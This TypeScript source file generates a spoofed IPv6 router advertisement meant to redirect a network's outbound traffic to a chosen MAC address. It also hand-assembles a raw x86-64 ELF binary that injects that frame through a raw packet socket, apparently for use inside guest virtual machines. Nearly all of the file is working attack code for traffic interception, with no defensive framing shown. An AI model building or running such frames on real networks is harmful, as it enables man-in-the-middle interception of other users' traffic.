/** The kernel's number for IPv6 on a wire. */
const IPV6 = 0x86dd;
const ICMPV6 = 58;
const ROUTER_ADVERT = 134;
const ALL_NODES = 'ff020000000000000000000000000001';

const hex = (text: string): Buffer => Buffer.from(text.replaceAll(':', ''), 'hex');

/** The checksum of ICMPv6 over its pseudo header (RFC 4443, 2.3). */
function checksum(source: Buffer, target: Buffer, message: Buffer): number {
  const length = Buffer.alloc(8);
  length.writeUInt32BE(message.length, 0);
  length.writeUInt32BE(ICMPV6, 4);
  const all = Buffer.concat([source, target, length, message]);
  let sum = 0;
  for (let at = 0; at < all.length; at += 2) sum += all.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + Math.floor(sum / 0x1_0000);
  return ~sum & 0xffff;
}

/** A router advertisement to all: whoever believes it sends what leaves the network to `mac`. */
export function routerAdvert(mac: string): Buffer {
  const source = hex('fe80000000000000000000fffe00beef');
  const target = hex(ALL_NODES);
  const message = Buffer.alloc(16);
  // Hop limit 64, no flags, a router for 1,800 s.
  message.set([ROUTER_ADVERT, 0, 0, 0, 64, 0]);
  message.writeUInt16BE(1_800, 6);
  message.writeUInt16BE(checksum(source, target, message), 2);
  const head = Buffer.from([0x60, 0, 0, 0, 0, message.length, ICMPV6, 255]);
  const ether = Buffer.concat([hex('333300000001'), hex(mac), Buffer.from([IPV6 >> 8, IPV6 & 255])]);
  return Buffer.concat([ether, head, source, target, message]);
}

const BASE = 0x40_0000;
const HEADERS = 120;

const u32 = (value: number): number[] => [0, 8, 16, 24].map((shift) => (value >>> shift) & 255);
const u64 = (value: number): number[] => [...u32(value), 0, 0, 0, 0];

/**
 * A program for Linux on x86-64 that sends one frame out of the interface with this number, for guests that have no tool for it: an
 * ELF file of one segment. Its exit code is 1 if the kernel refused.
 */
export function senderOf(frame: Buffer, ifindex: number): Buffer {
  const code = (toFrame: number, toAddress: number): number[] => [
    // socket(AF_PACKET, SOCK_RAW, 0)
    ...[0xb8, ...u32(41), 0xbf, ...u32(17), 0xbe, ...u32(3), 0x31, 0xd2, 0x0f, 0x05],
    // sendto(it, frame, length, 0, address, 20)
    ...[0x89, 0xc7, 0x48, 0x8d, 0x35, ...u32(toFrame), 0xba, ...u32(frame.length), 0x45, 0x31, 0xd2],
    ...[0x4c, 0x8d, 0x05, ...u32(toAddress), 0x41, 0xb9, ...u32(20), 0xb8, ...u32(44), 0x0f, 0x05],
    // exit(it < 0)
    ...[0x89, 0xc7, 0xc1, 0xef, 31, 0xb8, ...u32(60), 0x0f, 0x05],
  ];
  const { length } = code(0, 0);
  // Where the instruction pointer is once it has read the distance to the frame, and that to the address.
  const [atFrame, atAddress] = [28, 43];
  const address = [17, 0, IPV6 >> 8, IPV6 & 255, ...u32(ifindex), 0, 0, 0, 6, ...frame.subarray(0, 6), 0, 0];
  const body = Buffer.from([...code(length - atFrame + 20, length - atAddress), ...address, ...frame]);
  const size = HEADERS + body.length;
  const header = [
    ...[0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0, ...u32(1), ...u64(BASE + HEADERS)],
    ...[...u64(64), ...u64(0), ...u32(0), 64, 0, 56, 0, 1, 0, 0, 0, 0, 0, 0, 0],
  ];
  const segment = [
    ...u32(1),
    ...u32(5),
    ...u64(0),
    ...u64(BASE),
    ...u64(BASE),
    ...u64(size),
    ...u64(size),
    ...u64(4_096),
  ];
  return Buffer.concat([Buffer.from([...header, ...segment]), body]);
}
